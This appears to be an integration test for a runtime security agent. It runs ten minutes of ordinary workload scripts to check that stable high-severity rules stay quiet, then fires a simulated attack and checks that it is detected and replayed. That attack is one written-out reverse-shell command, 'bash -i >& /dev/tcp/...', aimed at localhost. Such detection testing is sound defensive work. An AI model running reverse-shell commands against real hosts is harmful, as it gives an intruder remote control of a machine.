/** Ten minutes of ordinary work: the shipped rules that call themselves stable wake nobody up. */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, openSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { AgentProcess, WARDER } from '../support/agent-process.ts';
import { repositoryRoot } from '../support/root.ts';

const ROOT = repositoryRoot();
const SECONDS = Number(process.env['WARDER_WORK_SECONDS'] ?? 600);
const WORK = [
  ...['packages', 'compile', 'services', 'web', 'versions', 'node', 'administration'],
] as const;
const WAKING: readonly string[] = ['high', 'critical'];
const SETTLE_MS = 5_000;

/** Scripts change files of the system: they are for machines of their own. */
const isGuest = process.env['WARDER_GUEST'] !== undefined;

interface Finding {
  readonly level: string;
  readonly rule: { readonly title: string; readonly status?: string };
  readonly evidence: readonly { readonly class: string }[];
  readonly process: { readonly binary: string; readonly arguments: string };
}

function readFindings(text: string): readonly Finding[] {
  return text
    .split('\n')
    .filter((line) => line.startsWith('{"finding"'))
    .map((line) => JSON.parse(line).finding);
}

/** Those that would wake somebody up, as texts. */
function wakingFindings(text: string): readonly string[] {
  return readFindings(text)
    .filter(({ level, rule }) => WAKING.includes(level) && rule.status === 'stable')
    .map(({ rule, process: { binary, arguments: args } }) => `${rule.title}: ${binary} ${args}`);
}

/** The exit status; what it prints goes to a file. */
async function run(name: string, log: number): Promise<number | null> {
  const script = join(ROOT, 'test/long/ordinary-work', `${name}.sh`);
  const child = spawn('/bin/bash', [script], { cwd: ROOT, stdio: ['ignore', log, log] });
  const [status] = await once(child, 'close');
  return status;
}

describe('ordinary work', { skip: isGuest ? false : 'changes files of the machine' }, () => {
  const base = mkdtempSync(join(tmpdir(), 'warder-work-'));
  after(() => rmSync(base, { recursive: true }));

  it(`of ${SECONDS} seconds raises no alarm, and an attack after it does`, async (t) => {
    const agent = new AgentProcess({ args: ['--output', 'json', '--rules', 'policies/rules'] });
    t.after(() => agent.end('SIGTERM'));
    await agent.armed();
    const recording = join(base, 'work.zst');
    const recorder = spawn(WARDER, ['record', recording, '--socket', agent.socketPath], {
      stdio: 'inherit',
    });
    const recorded = once(recorder, 'close');
    await sleep(SETTLE_MS);

    const log = openSync(join(base, 'log'), 'w');
    const end = Date.now() + SECONDS * 1000;
    const runs: Record<string, number> = {};
    for (let round = 0; round === 0 || Date.now() < end; round++) {
      for (const name of WORK) {
        const status = await run(name, log);
        const told = (): string => readFileSync(join(base, 'log'), 'utf8').slice(-2000);
        if (status !== 0) assert.fail(`${name} ended with ${status}: ${told()}`);
        runs[name] = (runs[name] ?? 0) + 1;
      }
    }
    await sleep(SETTLE_MS);
    const quiet = wakingFindings(agent.stdout);
    spawnSync('/bin/bash', ['-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1']);
    await sleep(SETTLE_MS);
    recorder.kill('SIGINT');
    await recorded;

    const replayed = spawnSync(WARDER, ['replay', recording], {
      cwd: ROOT,
      encoding: 'utf8',
      maxBuffer: 2 ** 30,
    });
    const [, events = ''] = /([\d,]+) events?,/.exec(replayed.stderr) ?? [];
    t.diagnostic(`${events} events of ${JSON.stringify(runs)}`);
    t.diagnostic(`other findings: ${JSON.stringify(countTitles(readFindings(agent.stdout)))}`);
    assert.deepStrictEqual(quiet, []);
    // The recording has the attack as well, and nothing else that wakes anybody up.
    const waking = wakingFindings(replayed.stdout);
    assert.ok(waking.length > 0, replayed.stderr);
    assert.deepStrictEqual(waking, wakingFindings(agent.stdout));
  });
});

function countTitles(findings: readonly Finding[]): Readonly<Record<string, number>> {
  const counts: Record<string, number> = {};
  for (const { level, rule } of findings) {
    const key = `${level} ${rule.status ?? ''} ${rule.title}`;
    counts[key] = (counts[key] ?? 0) + 1;
  }
  return counts;
}
